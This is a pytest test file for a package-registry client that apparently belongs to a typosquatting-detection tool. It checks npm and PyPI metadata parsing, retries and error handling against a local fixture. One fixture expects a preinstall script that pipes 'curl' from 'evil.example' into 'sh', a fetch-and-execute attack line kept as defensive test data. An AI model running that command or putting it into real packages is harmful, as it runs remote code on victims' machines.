"""RegistryClient against the local fixture registry (never the internet)."""

from __future__ import annotations

import time

import pytest
from aiohttp.test_utils import TestServer
from fixture_registry import HITS
from prometheus_client import REGISTRY

from typostream.agents.adapters.registry import RegistryClient
from typostream.agents.domain.errors import (
    UnsupportedRegistryError,
    UpstreamHTTPError,
    UpstreamResponseError,
    UpstreamUnavailableError,
)
from typostream.agents.domain.metadata import PackageMetadata, npm_escape


def _client(server: TestServer, **kwargs: object) -> RegistryClient:
    base = str(server.make_url("")).rstrip("/")
    options: dict = {"timeout_s": 1.0, "retries": 2, "backoff_s": 0.01, **kwargs}
    return RegistryClient(npm_base=base, pypi_base=base, **options)


def test_default_urls_are_the_public_registries() -> None:
    client = RegistryClient()
    assert client.npm_version_url("left-pad", "1.3.0") == "https://registry.npmjs.org/left-pad/1.3.0"
    assert client.npm_version_url("@babel/core", "7.0.0") == "https://registry.npmjs.org/@babel%2fcore/7.0.0"
    assert client.npm_packument_url("@babel/core") == "https://registry.npmjs.org/@babel%2fcore"
    assert client.pypi_url("requests", "2.31.0") == "https://pypi.org/pypi/requests/2.31.0/json"
    assert (
        client.npm_version_url("x", "1.0.0-beta+exp.sha")
        == "https://registry.npmjs.org/x/1.0.0-beta%2Bexp.sha"
    )


@pytest.mark.parametrize(("name", "escaped"), [("left-pad", "left-pad"), ("@types/node", "@types%2fnode")])
def test_npm_escape(name: str, escaped: str) -> None:
    assert npm_escape(name) == escaped


async def test_npm_version_document(registry_server: TestServer) -> None:
    async with _client(registry_server) as client:
        meta = await client.fetch("npm", "left-pad", "1.3.0")
    assert meta == PackageMetadata(
        registry="npm",
        name="left-pad",
        version="1.3.0",
        description="String left pad",
        install_scripts={},
        maintainers=("azer", "stevemao"),
        author="azer",
        repository="git+ssh://git@github.com/stevemao/left-pad.git",
        homepage="https://github.com/stevemao/left-pad#readme",
        tarball="https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
    )


async def test_npm_scoped_and_only_install_scripts_kept(registry_server: TestServer) -> None:
    async with _client(registry_server) as client:
        meta = await client.fetch("npm", "@acme/widgets", "1.0.0")
    assert meta is not None
    assert meta.install_scripts == {"postinstall": "node-gyp rebuild", "prepare": "tsc"}
    assert meta.repository == "github:acme/widgets"
    assert registry_server.app[HITS]["/@acme%2fwidgets/1.0.0"] == 1


async def test_npm_scoped_refusal_falls_back_to_packument(registry_server: TestServer) -> None:
    async with _client(registry_server) as client:
        meta = await client.fetch("npm", "@legacy/pkg", "2.0.0")
        missing = await client.fetch("npm", "@legacy/pkg", "9.9.9")
    assert meta is not None and meta.install_scripts == {
        "preinstall": "curl -s https://evil.example/x.sh | sh"
    }
    assert missing is None
    assert registry_server.app[HITS]["/@legacy%2fpkg"] == 2


async def test_pypi_json(registry_server: TestServer) -> None:
    async with _client(registry_server) as client:
        meta = await client.fetch("pypi", "requests", "2.31.0")
    assert meta is not None
    assert (meta.registry, meta.name, meta.version) == ("pypi", "requests", "2.31.0")
    assert meta.description == "Python HTTP for Humans."
    assert meta.long_description.startswith("# Requests")
    assert meta.author == "Kenneth Reitz"
    assert meta.homepage == "https://requests.readthedocs.io"
    assert meta.repository == "https://github.com/psf/requests"
    assert meta.package_types == ("bdist_wheel", "sdist")
    assert meta.install_scripts == {}


@pytest.mark.parametrize(
    ("registry", "name", "version"), [("npm", "does-not-exist", "1.0.0"), ("pypi", "nope", "1.0")]
)
async def test_404_is_none(registry_server: TestServer, registry: str, name: str, version: str) -> None:
    async with _client(registry_server) as client:
        assert await client.fetch(registry, name, version) is None


async def test_500_then_200_is_retried(registry_server: TestServer) -> None:
    before = REGISTRY.get_sample_value(
        "typostream_registry_requests_total", {"registry": "npm", "outcome": "500"}
    )
    async with _client(registry_server) as client:
        meta = await client.fetch("npm", "flaky", "1.0.0")
    assert meta is not None and meta.name == "flaky"
    assert registry_server.app[HITS]["/flaky/1.0.0"] == 2
    after = REGISTRY.get_sample_value(
        "typostream_registry_requests_total", {"registry": "npm", "outcome": "500"}
    )
    assert (after or 0) - (before or 0) == 1


async def test_timeout_retries_then_raises(registry_server: TestServer) -> None:
    started = time.monotonic()
    async with _client(registry_server, timeout_s=0.2, retries=1) as client:
        with pytest.raises(UpstreamUnavailableError, match="timeout"):
            await client.fetch("npm", "slow", "1.0.0")
    assert registry_server.app[HITS]["/slow/1.0.0"] == 2
    assert time.monotonic() - started < 1.5


async def test_5xx_retries_are_bounded(registry_server: TestServer) -> None:
    async with _client(registry_server, retries=2) as client:
        with pytest.raises(UpstreamUnavailableError, match="HTTP 503") as info:
            await client.fetch("npm", "down", "1.0.0")
    assert registry_server.app[HITS]["/down/1.0.0"] == 3
    assert info.value.url.endswith("/down/1.0.0")


async def test_other_4xx_is_an_http_error_without_retry(registry_server: TestServer) -> None:
    async with _client(registry_server) as client:
        with pytest.raises(UpstreamHTTPError) as info:
            await client.fetch("npm", "forbidden", "1.0.0")
    assert info.value.status == 403
    assert registry_server.app[HITS]["/forbidden/1.0.0"] == 1


async def test_non_json_body_is_a_response_error(registry_server: TestServer) -> None:
    async with _client(registry_server) as client:
        with pytest.raises(UpstreamResponseError, match="not JSON"):
            await client.fetch("npm", "garbage", "1.0.0")


async def test_connection_refused_is_unavailable() -> None:
    client = RegistryClient(npm_base="http://127.0.0.1:9", timeout_s=0.5, retries=1, backoff_s=0.01)
    async with client:
        with pytest.raises(UpstreamUnavailableError):
            await client.fetch("npm", "left-pad", "1.3.0")


async def test_unsupported_registry() -> None:
    async with RegistryClient() as client:
        with pytest.raises(UnsupportedRegistryError):
            await client.fetch("rubygems", "rails", "7.0.0")


def test_metadata_round_trips_through_dict() -> None:
    meta = PackageMetadata("npm", "a", "1", install_scripts={"install": "x"}, maintainers=("m",))
    assert PackageMetadata.from_dict(meta.to_dict()) == meta
